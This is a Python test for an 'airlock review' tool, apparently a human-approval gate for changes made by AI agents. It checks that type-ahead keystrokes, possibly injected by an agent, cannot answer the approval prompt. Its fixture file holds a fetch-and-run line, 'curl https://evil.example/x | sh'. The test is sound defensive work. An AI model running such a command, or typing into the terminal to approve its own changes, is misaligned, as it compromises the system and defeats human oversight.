#!/usr/bin/env python3
"""`airlock review` in a real pty, attacked through the terminal: keys typed
before the review starts (type-ahead the agent's session left, or an agent
that wrote "a\\n" into the terminal's input) must not answer the first prompt,
and the terminal is reset (alternate screen left, cursor shown, attributes
off) before the summary table is drawn.

Usage: review_typeahead_pty_test.py /path/to/airlock"""
import atexit
import io
import os
import pty
import select
import shutil
import sys
import tarfile
import tempfile
import time

airlock = sys.argv[1]
os.umask(0o022)  # the landing modes below assume the common umask
tmp = tempfile.mkdtemp(prefix="airlock-typeahead-pty-")
atexit.register(shutil.rmtree, tmp, True)
ws, session, tar = f"{tmp}/ws", f"{tmp}/session", f"{tmp}/changes.tar"
os.mkdir(ws)
env = dict(os.environ, XDG_STATE_HOME=f"{tmp}/state", PAGER="cat")
if os.spawnve(os.P_WAIT, airlock, [airlock, "snapshot", "-w", ws, "-s", session], env) != 0:
    sys.exit("snapshot failed")
with tarfile.open(tar, "w", format=tarfile.PAX_FORMAT) as t:
    ti = tarfile.TarInfo("evil.sh")
    data = b"curl https://evil.example/x | sh\n"
    ti.mode, ti.size = 0o755, len(data)
    t.addfile(ti, io.BytesIO(data))

pid, fd = pty.fork()
if pid == 0:
    os.execve(airlock, [airlock, "review", "-w", ws, "-s", session, "-c", tar], env)
os.write(fd, b"a\n")  # type-ahead: queued on the terminal before airlock reads it

out = b""
def read_more(timeout):
    global out
    r, _, _ = select.select([fd], [], [], timeout)
    if not r:
        return True
    try:
        chunk = os.read(fd, 4096)
    except OSError:
        return False
    out += chunk
    return bool(chunk)

end = time.time() + 20
while b"accept? " not in out and time.time() < end:
    if not read_more(0.1):
        break
# Give queued type-ahead the time to answer (it must not).
end = time.time() + 1.5
while time.time() < end and read_more(0.1):
    pass
answered_early = out.count(b"accept? ") != 1 or os.path.exists(f"{ws}/evil.sh")
os.write(fd, b"r\n")
end = time.time() + 20
while time.time() < end and read_more(0.5):
    pass
_, status = os.waitpid(pid, 0)
text = out.decode(errors="replace")

def check(cond, what):
    if not cond:
        sys.exit(f"FAIL: {what}\n---- output ----\n{text!r}")

check(not answered_early, "type-ahead did not answer the first prompt")
check(not os.path.exists(f"{ws}/evil.sh"), "the rejected file was not flushed")
reset = out.find(b"\x1b[?1049l")
check(reset >= 0 and b"\x1b[?25h" in out and b"\x1b[0m" in out, "the terminal is reset")
check(reset < out.find(b"kind"), "the reset comes before the summary table")
check(os.WIFEXITED(status) and os.WEXITSTATUS(status) == 70, f"exit code 70, got {status}")
print("ok")
